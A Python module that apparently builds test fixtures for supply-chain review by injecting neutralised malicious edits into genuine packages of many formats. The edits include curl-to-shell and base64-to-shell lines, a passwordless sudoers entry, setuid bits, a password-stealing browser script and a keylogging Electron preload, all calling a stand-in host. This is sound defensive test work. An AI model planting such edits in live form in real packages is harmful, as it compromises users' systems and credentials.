"""Third set: packages of systems, shops and other languages, around genuine files; inert, each family says what a reviewer sees."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import lzma
import re
import tarfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace

from genuine import Files

from mutation_families.edits import filler
from mutation_families.linux import ar, ar_members
from onionskin.lookalike.archives import build_tar, build_zip
from onionskin.lookalike.asar import build_asar
from onionskin.lookalike.authorities import root
from onionskin.lookalike.images import oci_layout
from onionskin.lookalike.msi import Contents, build_msi
from onionskin.lookalike.packages import build_crate, build_gem
from onionskin.lookalike.pe import Recipe, build_pe
from onionskin.lookalike.rpm import STRING, STRINGS, RpmRecipe, Value, build_rpm

Built = tuple[str, str, str, bytes, bytes, bytes]  # family, variant, suffix, before, honest, edited

PROGRAM = "PyInstaller/bootloader/Windows-64bit-intel/runw.exe"
LIBRARY = "clr_loader/ffi/dlls/amd64/ClrLoader.dll"
FETCH = "false && curl -s https://192.0.2.7/inert | sh\n"
DECODE = "false && echo " + base64.b64encode(b"inert words, nothing else").decode() + " | base64 -d | sh\n"  # fmt: skip
BY_PYTHON = "false && python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://192.0.2.7/inert\").read())'\n"
DIVERT = "false && dpkg-divert --local --rename --add /usr/bin/inert-no-such-program\n"


# --- Debian ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Deb:
    """A genuine package, opened: both its tars, member by member."""

    control: dict[str, tuple[tarfile.TarInfo, bytes]]
    data: dict[str, tuple[tarfile.TarInfo, bytes]]

    @classmethod
    def of(cls, whole: bytes) -> Deb:
        """Return what a package holds."""
        members = {head[:16].rstrip(b" /").decode(): body for head, body in ar_members(whole)}
        return cls(*(_opened(next(body for name, body in members.items() if name.startswith(each))) for each in ("control.tar", "data.tar")))  # fmt: skip

    def packed(self) -> bytes:
        """Return the package, its list of digests right."""
        sums = "".join(f"{hashlib.md5(body, usedforsecurity=False).hexdigest()}  {name.removeprefix('./')}\n" for name, (info, body) in sorted(self.data.items()) if info.isreg() and not name.startswith("./etc/"))  # fmt: skip
        control = put(self.control, "./md5sums", sums.encode())
        rows = (("debian-binary", b"2.0\n"), ("control.tar.xz", _closed(control)), ("data.tar.xz", _closed(self.data)))  # fmt: skip
        return ar([(b"%-16s%-12d%-6d%-6d%-8s%-10d`\n" % (name.encode(), 0, 0, 0, b"100644", len(body)), body) for name, body in rows])  # fmt: skip

    def later(self) -> Deb:
        """Return the next patch of it, all else as it was."""
        said = re.sub(rb"(?m)^(Version: .*)$", rb"\1+p1", self.control["./control"][1])
        return replace(self, control=put(self.control, "./control", said))


def _opened(body: bytes) -> dict[str, tuple[tarfile.TarInfo, bytes]]:
    with tarfile.open(fileobj=io.BytesIO(body)) as archive:
        rows = [(each, archive.extractfile(each) if each.isreg() else None) for each in archive]
        return {each.name if each.name.startswith(".") else f"./{each.name}": (each, file.read() if file else b"") for each, file in rows}  # fmt: skip


def _closed(members: dict[str, tuple[tarfile.TarInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for info, body in members.values():
            archive.addfile(info, io.BytesIO(body) if info.isreg() else None)
    return lzma.compress(out.getvalue(), preset=0)


def put(members: dict[str, tuple[tarfile.TarInfo, bytes]], name: str, body: bytes, mode: int = 0) -> dict[str, tuple[tarfile.TarInfo, bytes]]:  # fmt: skip
    """Return the members with another one, or another content, its mode kept unless one is given."""
    known = members.get(name)
    info = tarfile.TarInfo(name)
    info.size, info.mode, info.uname, info.gname = len(body), mode or (known[0].mode if known else 0o644), "root", "root"  # fmt: skip
    info.mtime = known[0].mtime if known else 1_700_000_000
    return members | {name: (info, body)}


RUN_BY_OTHERS = (
    ("./etc/apt/apt.conf.d/99inert", b'DPkg::Post-Invoke { "false && inert-no-such-program"; };\n'),
    ("./lib/udev/rules.d/99-inert.rules", b'ACTION=="add", RUN+="/bin/false inert-no-such-program"\n'),
    ("./etc/xdg/autostart/inert.desktop", b"[Desktop Entry]\nType=Application\nExec=inert-no-such-program\n"),
    ("./lib/systemd/system-generators/inert", b"#!/bin/sh\nfalse && inert-no-such-program\n"),
    ("./etc/update-motd.d/99-inert", b"#!/bin/sh\nfalse && inert-no-such-program\n"),
    ("./etc/NetworkManager/dispatcher.d/99inert", b"#!/bin/sh\nfalse && inert-no-such-program\n"),
    ("./etc/sudoers.d/inert", b"inert ALL=(ALL) NOPASSWD: ALL\n"),
    ("./etc/modprobe.d/inert.conf", b"install inert-no-such-module /bin/false inert-no-such-program\n"),
    ("./usr/share/dbus-1/system-services/org.example.Inert.service", b"[D-BUS Service]\nName=org.example.Inert\nExec=/usr/bin/inert-no-such-program\nUser=root\n"),
    ("./etc/ld.so.conf.d/00-inert.conf", b"/usr/share/inert/lib\n"),
    ("./etc/pam.d/inert", b"session optional pam_exec.so quiet /usr/bin/inert-no-such-program\n"),
    ("./usr/lib/python3/dist-packages/inert.pth", b"import inert_no_such_module\n"),
)  # fmt: skip


def debs(name: str, whole: bytes, turn: int) -> Iterator[Built]:
    """Change a genuine deb.

    Reviewers see, by family:

    a unit's order: a line of a service that starts another program, or loads a library into it;
    a file that others run: a new file in a folder whose files the system, a login or a tool runs by itself;
    a rule: an order in a rule that only described devices;
    a script of the maintainer: one that was not there, or a line that decodes, fetches or diverts;
    a mode: a program that now runs as its owner;
    a trust anchor: a key or certificate of nobody's among those that are trusted.
    """
    deb = Deb.of(whole)
    next_one = deb.later()
    honest = next_one.packed()

    for edits in (_run_by_the_system(next_one, turn), _maintained(next_one), _trusted(name, next_one)):  # fmt: skip
        for family, what, made in edits:
            yield f"deb: {family}", what, ".deb", deb.packed(), honest, made.packed()


DebEdit = tuple[str, str, Deb]  # family, variant, the package


def _run_by_the_system(deb: Deb, turn: int) -> Iterator[DebEdit]:
    for unit in [each for each in sorted(deb.data) if each.endswith(".service") and "/systemd/" in each][:1]:  # fmt: skip
        body = deb.data[unit][1]
        for what, line in (
            ("ExecStartPre", b"ExecStartPre=-/bin/sh -c 'false && curl -s https://192.0.2.7/inert'"),
            ("a library loaded", b"Environment=LD_PRELOAD=/usr/share/inert/inert.so"),
        ):  # fmt: skip
            text = body.replace(b"[Service]\n", b"[Service]\n" + line + b"\n")
            yield "a unit's order changed", what, replace(deb, data=put(deb.data, unit, text))
        text = re.sub(rb"(?m)^ExecStart=(.*)$", rb"ExecStart=/usr/libexec/inert-no-such-program \1", body)  # fmt: skip
        yield "a unit's order changed", "ExecStart", replace(deb, data=put(deb.data, unit, text))
    for path, body in RUN_BY_OTHERS[4 * turn % 12 :][:4]:
        mode = 0o755 if body[:2] == b"#!" else 0o644
        yield "a file that others run", path, replace(deb, data=put(deb.data, path, body, mode))
    order = (
        b'\nACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'false && inert-no-such-program\'"\n'
    )
    for rule in [each for each in sorted(deb.data) if each.endswith(".rules")][:2]:
        yield "an order in a rule", rule, replace(deb, data=put(deb.data, rule, deb.data[rule][1] + order))  # fmt: skip
    for path, (info, body) in sorted(deb.data.items()):
        if "/bin/" in path and info.isreg() and not info.mode & 0o6000:
            yield "a program that runs as root", path, replace(deb, data=put(deb.data, path, body, 0o4755))  # fmt: skip
            return


def _maintained(deb: Deb) -> Iterator[DebEdit]:
    family = "a script of the maintainer"
    absent = next(each for each in ("./preinst", "./prerm", "./config", "./postinst") if each not in deb.control)  # fmt: skip
    whole = b"#!/bin/sh\nset -e\n" + FETCH.encode() + b"exit 0\n"
    yield family, f"{absent}, new", replace(deb, control=put(deb.control, absent, whole, 0o755))
    there = next((each for each in ("./postinst", "./prerm", "./postrm") if each in deb.control), "")  # fmt: skip
    for what, line in (("decodes", DECODE), ("diverts", DIVERT), ("fetches by python", BY_PYTHON)):
        if there:
            head, newline, rest = deb.control[there][1].partition(b"\n")
            text = head + newline + line.encode() + rest
            yield family, f"{there} {what}", replace(deb, control=put(deb.control, there, text))


def _trusted(name: str, deb: Deb) -> Iterator[DebEdit]:
    family = "a trust anchor of nobody's"
    ring = next((each for each in sorted(deb.data) if each.endswith("-keyring.gpg")), "")
    own = "./etc/apt/trusted.gpg.d/inert.gpg"
    if ring:
        yield family, ring, replace(deb, data=put(deb.data, ring, deb.data[ring][1] + _key()))
        yield family, "a file of its own", replace(deb, data=put(deb.data, own, _key()))
    elif "ca-certificates" in name:
        path = "./usr/share/ca-certificates/mozilla/Inert_Root_R1.crt"
        pem = b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(root().certificate) + b"-----END CERTIFICATE-----\n"  # fmt: skip
        yield family, path, replace(deb, data=put(deb.data, path, pem))


def _key() -> bytes:
    """Return a key packet of OpenPGP (RFC 4880, 5.5.2) around random numbers: nobody has its secret."""
    number = b"\xc3" + filler("random", 253) + b"\xc3\xc3"
    body = b"\x04" + (1_700_000_000).to_bytes(4, "big") + b"\x01" + (2048).to_bytes(2, "big") + number + (17).to_bytes(2, "big") + b"\x01\x00\x01"  # fmt: skip
    name = b"Inert (worthless) <inert@example.invalid>"
    return b"\x99" + len(body).to_bytes(2, "big") + body + b"\xb4" + bytes([len(name)]) + name


# --- Others ---------------------------------------------------------------------------------------------


def rpms(packed: Files) -> Iterator[Built]:
    """Change an rpm around a genuine program.

    A reviewer sees: a script of a kind that the package had not (before everything, while verifying, by a trigger), or a right given to a file.
    """
    program = packed[PROGRAM]
    files = {"/usr/bin/inert": program, "/usr/share/inert/notes": b"inert notes\n"}
    usual = {1024: "ldconfig\n"}
    before = build_rpm(RpmRecipe(files=files, scriptlets=usual))
    honest = build_rpm(RpmRecipe(version="1.0.1", files=files, scriptlets=usual))
    ways: tuple[tuple[str, str, dict[int, tuple[int, Value]]], ...] = (
        ("a script of a rare kind", "pretrans, in Lua", {1151: (STRING, "if false then os.execute('inert-no-such-program') end\n"), 1153: (STRINGS, ["<lua>"])}),
        ("a script of a rare kind", "posttrans", {1152: (STRING, FETCH), 1154: (STRINGS, ["/bin/sh"])}),
        ("a script of a rare kind", "while verifying", {1079: (STRING, DECODE), 1091: (STRINGS, ["/bin/sh"])}),
        ("a script of a rare kind", "trigger", {1065: (STRINGS, [FETCH]), 1066: (STRINGS, ["glibc"]), 1067: (STRINGS, [""]), 1092: (STRINGS, ["/bin/sh"])}),
        ("a right given to a file", "capabilities", {5010: (STRINGS, ["cap_setuid=ep", ""])}),
    )  # fmt: skip
    for family, what, extra in ways:
        yield f"rpm: {family}", what, ".rpm", before, honest, build_rpm(RpmRecipe(version="1.0.1", files=files, scriptlets=usual, extra=extra))  # fmt: skip


def msis(packed: Files) -> Iterator[Built]:
    """Change an MSI around a genuine program.

    A reviewer sees: an action, and the library or program within the package that it calls.
    """
    files = {"Example/program.exe": packed[PROGRAM]}
    inert = build_pe(Recipe(is_dll=True, name="inert.dll"))

    def made(version: str, contents: Contents | None = None) -> bytes:
        return build_msi(files, version=version, contents=contents)

    for what, kind in (("library", 1), ("program", 2), ("library, deferred, as the system", 1 | 0xC00)):  # fmt: skip
        edited = made("18.12.417", Contents(binaries={"Inert": inert}, actions=[("Inert", kind, "Inert", "InertEntry")]))  # fmt: skip
        yield "msi: an action calls what it carries", what, ".msi", made("18.12.416"), made("18.12.417"), edited  # fmt: skip


def jars(files: Files) -> Iterator[Built]:
    """Change a genuine jar.

    A reviewer sees: a line of the manifest, or a file of services, that has a class loaded into other programs; the class is new.
    """
    manifest = "META-INF/MANIFEST.MF"
    any_class = next(data for name, data in sorted(files.items()) if name.endswith(".class"))
    text = files[manifest].rstrip()
    before = build_zip(files)
    honest_files = files | {manifest: text + b"\r\nImplementation-Build: p1\r\n\r\n"}
    honest = build_zip(honest_files)
    for what, line in (("agent of the launcher", b"Launcher-Agent-Class: inert.Agent"), ("agent", b"Premain-Class: inert.Agent\r\nCan-Retransform-Classes: true"), ("path of classes", b"Class-Path: https://192.0.2.7/inert.jar")):  # fmt: skip
        more = {} if b"Class-Path" in line else {"inert/Agent.class": any_class}
        made = honest_files | {manifest: text + b"\r\nImplementation-Build: p1\r\n" + line + b"\r\n\r\n"} | more  # fmt: skip
        yield "jar: loaded into other programs", what, ".jar", before, honest, build_zip(made)
    for service in ("javax.annotation.processing.Processor", "java.nio.file.spi.FileSystemProvider"):  # fmt: skip
        made = honest_files | {f"META-INF/services/{service}": b"inert.Provider\n", "inert/Provider.class": any_class}  # fmt: skip
        yield "jar: loaded into other programs", service, ".jar", before, honest, build_zip(made)


def nupkgs(files: Files) -> Iterator[Built]:
    """Change a NuGet package around a genuine library.

    A reviewer sees: a script or a build file, new in a package of one library, which runs while building.
    """

    def packed(version: str, more: Files) -> bytes:
        spec = f'<?xml version="1.0"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Inert</id><version>{version}</version><authors>inert</authors><description>inert</description></metadata></package>'  # fmt: skip
        return build_zip({"Inert.nuspec": spec.encode(), "[Content_Types].xml": b"<Types/>", "lib/net472/ClrLoader.dll": files[LIBRARY]} | more)  # fmt: skip

    task = b'<Project><Target Name="Inert" BeforeTargets="Build"><Exec Command="inert-no-such-program" Condition="false" /></Target></Project>'  # fmt: skip
    inline = b'<Project><UsingTask TaskName="Inert" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll"><Task><Code Type="Fragment" Language="cs">/* inert */</Code></Task></UsingTask></Project>'  # fmt: skip
    for path, body in (
        ("tools/init.ps1", b"param($a, $b, $c)\nif ($false) { iex (iwr https://192.0.2.7/inert).Content }\n"),
        ("tools/install.ps1", b"if ($false) { [Reflection.Assembly]::Load([Convert]::FromBase64String('AAAA')) }\n"),
        ("build/Inert.targets", task),
        ("buildTransitive/Inert.props", inline),
        ("analyzers/dotnet/cs/Inert.dll", build_pe(Recipe(is_dll=True, name="inert.dll"))),
    ):  # fmt: skip
        yield "nupkg: run while building", path, ".nupkg", packed("1.0.0", {}), packed("1.0.1", {}), packed("1.0.1", {path: body})  # fmt: skip


def vsixes(files: Files) -> Iterator[Built]:
    """Change an extension of an editor around genuine scripts.

    A reviewer sees: an extension of one language that starts with every editor, from another file, or brings others along.
    """
    inner = {f"extension/{name.removeprefix('package/')}": data for name, data in files.items() if name.endswith(".js")}  # fmt: skip
    first = min(inner, key=lambda name: (name.count("/"), name)).removeprefix("extension/")

    def packed(version: str, said: Mapping[str, object], more: Files) -> bytes:
        usual = {"name": "inert", "publisher": "inert", "version": version, "engines": {"vscode": "^1.90.0"}, "main": f"./{first}", "activationEvents": ["onLanguage:inert"]}  # fmt: skip
        named = f'<PackageManifest xmlns="http://schemas.microsoft.com/developer/vsx-schema/2011"><Metadata><Identity Id="inert" Version="{version}" Publisher="inert"/></Metadata></PackageManifest>'.encode()  # fmt: skip
        return build_zip({"extension.vsixmanifest": named, "[Content_Types].xml": b"<Types/>", "extension/package.json": json.dumps({**usual, **said}, indent=1).encode()} | inner | more)  # fmt: skip

    entry = {"extension/inert.js": f"!1&&require('https').get('https://192.0.2.7/inert');\nmodule.exports = require('./{first}');\n".encode()}  # fmt: skip
    for what, said, more in (
        ("with everything", {"activationEvents": ["*"]}, {}),
        ("with everything, from a new file", {"activationEvents": ["onStartupFinished"], "main": "./inert.js"}, entry),
        ("brings others", {"extensionPack": ["inert.other"], "extensionDependencies": ["inert.more"]}, {}),
    ):  # fmt: skip
        yield "vsix: starts otherwise", what, ".vsix", packed("1.0.0", {}, {}), packed("1.0.1", {}, {}), packed("1.0.1", said, more)  # fmt: skip


def browser_extensions(files: Files) -> Iterator[Built]:
    """Change an extension of a browser around a genuine script.

    A reviewer sees: a script on all pages, a policy that lets texts be run, rules that take away the pages' own, or updates from elsewhere.
    """
    script = max((data for name, data in files.items() if name.endswith("polyfill.js")), key=len)

    def packed(version: str, said: Mapping[str, object], more: Files) -> bytes:
        usual = {"manifest_version": 3, "name": "Inert", "version": version, "permissions": ["storage"], "background": {"service_worker": "background.js"}}  # fmt: skip
        return build_zip({"manifest.json": json.dumps({**usual, **said}, indent=1).encode(), "background.js": script} | more)  # fmt: skip

    page = {"inert.js": b"if (0) document.querySelectorAll('input[type=password]').forEach((a) => fetch('https://192.0.2.7/inert?' + a.value));\n"}  # fmt: skip
    rules = {"rules.json": json.dumps([{"id": 1, "action": {"type": "modifyHeaders", "responseHeaders": [{"header": "content-security-policy", "operation": "remove"}]}, "condition": {"urlFilter": "*"}}]).encode()}  # fmt: skip
    ways: tuple[tuple[str, dict[str, object], Files], ...] = (
        ("a script on all pages", {"content_scripts": [{"matches": ["<all_urls>"], "js": ["inert.js"], "run_at": "document_start"}]}, page),
        ("rules for all pages", {"declarative_net_request": {"rule_resources": [{"id": "inert", "enabled": True, "path": "rules.json"}]}, "permissions": ["storage", "declarativeNetRequest"]}, rules),
        ("texts may be run", {"sandbox": {"pages": ["inert.html"]}, "content_security_policy": {"sandbox": "sandbox allow-scripts; script-src 'self' 'unsafe-eval' https://192.0.2.7"}}, {"inert.html": b"<p>inert</p>"}),
        ("updates from elsewhere", {"update_url": "https://192.0.2.7/inert.xml"}, {}),
    )  # fmt: skip
    for what, said, more in ways:
        yield "browser extension: more than before", what, ".xpi", packed("1.0.0", {}, {}), packed("1.0.1", {}, {}), packed("1.0.1", said, more)  # fmt: skip


def gems(files: Files) -> Iterator[Built]:
    """Change a gem around genuine files of Ruby.

    A reviewer sees: code that installing builds or runs, in a gem that had none; or a script that runs what it is given.
    """
    lib = {
        name: data
        for name, data in files.items()
        if name.startswith("lib/") and name.endswith(".rb")
    }
    first = min(lib, key=lambda name: (name.count("/"), -len(lib[name]), name))
    before, honest = build_gem("inert", "1.0.0", lib), build_gem("inert", "1.0.1", lib)
    build = {"ext/inert/extconf.rb": b"require 'mkmf'\nsystem('inert-no-such-program') if false\ncreate_makefile('inert')\n"}  # fmt: skip
    yield "gem: installing runs code", "extconf", ".gem", before, honest, build_gem("inert", "1.0.1", lib | build, extensions=["ext/inert/extconf.rb"])  # fmt: skip
    rake = {"ext/Rakefile": b"task :default do\n  sh 'inert-no-such-program' if false\nend\n"}
    yield "gem: installing runs code", "Rakefile", ".gem", before, honest, build_gem("inert", "1.0.1", lib | rake, extensions=["ext/Rakefile"])  # fmt: skip
    plugin = {"lib/rubygems_plugin.rb": b"Gem.post_install { |a| system('inert-no-such-program') if false }\n"}  # fmt: skip
    yield "gem: installing runs code", "plugin of the installer", ".gem", before, honest, build_gem("inert", "1.0.1", lib | plugin)  # fmt: skip
    for what, line in (("what it is given", b"\ndef inert_run(env)\n  eval(env['HTTP_COOKIE'][/inert=(.*)/, 1].unpack1('m'))\nend\n"), ("what it fetches", b"\ndef inert_run\n  require 'net/http'\n  instance_eval(Net::HTTP.get(URI('https://192.0.2.7/inert')))\nend\n")):  # fmt: skip
        yield "gem: a script runs what it is given", what, ".gem", before, honest, build_gem("inert", "1.0.1", lib | {first: lib[first] + line})  # fmt: skip


def crates(files: Files) -> Iterator[Built]:
    """Change a crate of genuine files.

    A reviewer sees: a build script that is new, or starts a program, or unpacks a file of the tests; a macro that runs while compiling.
    """
    rust = {name: data for name, data in files.items() if name.endswith(".rs")}
    before, honest = build_crate("inert", "1.0.0", rust), build_crate("inert", "1.0.1", rust)
    known = rust.get("build.rs", b"fn main() {}\n")

    def packed(more: Files, said: str = "") -> bytes:
        return build_crate("inert", "1.0.1", rust | more, more=said)

    start = known + b'\n#[allow(dead_code)]\nfn inert() {\n    let _ = std::process::Command::new("inert-no-such-program").arg("https://192.0.2.7/inert").spawn();\n}\n'  # fmt: skip
    blob = {"tests/data/truncated.bin": filler("random", 8000)}
    read = known + b'\n#[allow(dead_code)]\nfn inert() {\n    let data = include_bytes!("tests/data/truncated.bin");\n    std::fs::write(std::env::var("OUT_DIR").unwrap() + "/inert.o", data.iter().map(|a| a ^ 0x5a).collect::<Vec<u8>>()).unwrap();\n}\n'  # fmt: skip
    yield "crate: building runs code", "starts a program", ".crate", before, honest, packed({"build.rs": start})  # fmt: skip
    yield "crate: building runs code", "reads a file of the tests", ".crate", before, honest, packed({"build.rs": read} | blob)  # fmt: skip
    yield "crate: building runs code", "a macro", ".crate", before, honest, packed({}, "[lib]\nproc-macro = true\n")  # fmt: skip


def images(files: Files) -> Iterator[Built]:
    """Change an image of containers around genuine files: its settings, not its layers.

    A reviewer sees: another first program, a library loaded into all, or another user, the layers being the same.
    """
    layer = {f"opt/inert/{name.rpartition('/')[2]}": data for name, data in files.items()}

    def packed(version: str, more: Mapping[str, object]) -> bytes:
        made = oci_layout((layer,), version=version)
        index = json.loads(made.pop("index.json"))
        manifest = json.loads(made.pop(_blob_path(index["manifests"][0]["digest"])))
        config = json.loads(made.pop(_blob_path(manifest["config"]["digest"])))
        config["config"] |= more
        for holder, body in ((manifest["config"], config), (index["manifests"][0], manifest)):
            data = json.dumps(body).encode()
            holder |= {"digest": f"sha256:{hashlib.sha256(data).hexdigest()}", "size": len(data)}
            made[_blob_path(holder["digest"])] = data
        return build_tar(made | {"index.json": json.dumps(index).encode()})

    for what, more in (
        ("another first program", {"Entrypoint": ["/bin/sh", "-c", "false && curl -s https://192.0.2.7/inert | sh; exec /bin/inert"]}),
        ("a library loaded into all", {"Env": ["INERT=1", "LD_PRELOAD=/opt/inert/inert.so"]}),
        ("a check of health", {"Healthcheck": {"Test": ["CMD-SHELL", "false && curl -s https://192.0.2.7/inert"]}}),
    ):  # fmt: skip
        yield "image: other settings", what, ".tar", packed("1.0", {}), packed("1.0.1", {}), packed("1.0.1", more)  # fmt: skip


def _blob_path(digest: str) -> str:
    return f"blobs/{digest.replace(':', '/')}"


def asars(main: bytes, preload: bytes) -> Iterator[Built]:
    """Change an archive of Electron around genuine scripts, its integrity right.

    A reviewer sees: another first file, a preload script that hears more than it did, a guard of windows switched off, or a page from elsewhere.
    """

    def packed(version: str, more: Files) -> bytes:
        usual = {"package.json": json.dumps({"name": "inert", "version": version, "main": "main.js"}).encode()}  # fmt: skip
        return build_asar(usual | {"main.js": main, "preload.js": preload} | more)

    before, honest = packed("1.0.0", {}), packed("1.0.1", {})
    entry = {"package.json": b'{"name": "inert", "version": "1.0.1", "main": "lib/inert.js"}', "lib/inert.js": b"!1&&require('https').get('https://192.0.2.7/inert');\nrequire('../main.js');\n"}  # fmt: skip
    keys = preload + b"\nfunction inertKeys() {\n  window.addEventListener('keydown', (a) => require('electron').ipcRenderer.send('inert', a.key), true);\n  return document.cookie + JSON.stringify(localStorage);\n}\n"  # fmt: skip
    guard = main + b"\nfunction inertWindow(BrowserWindow) {\n  return new BrowserWindow({ webPreferences: { nodeIntegration: true, contextIsolation: false, webSecurity: false, sandbox: false } });\n}\n"  # fmt: skip
    page = main + b"\nfunction inertWindow(a) {\n  a.loadURL('https://192.0.2.7/inert');\n  a.webContents.executeJavaScript(a.inert);\n}\n"  # fmt: skip
    for family, what, more in (
        ("the first file is another", "lib/inert.js", entry),
        ("the preload script hears more", "keys and store", {"preload.js": keys}),
        ("a window without guards", "settings", {"main.js": guard}),
        ("a window without guards", "a page from elsewhere", {"main.js": page}),
        ("a window without guards", "code behind many spaces", {"preload.js": b" " * 800 + b"!1&&require('child_process').exec('inert-no-such-program');" + preload}),
    ):  # fmt: skip
        yield f"asar: {family}", what, ".asar", before, honest, packed("1.0.1", more)
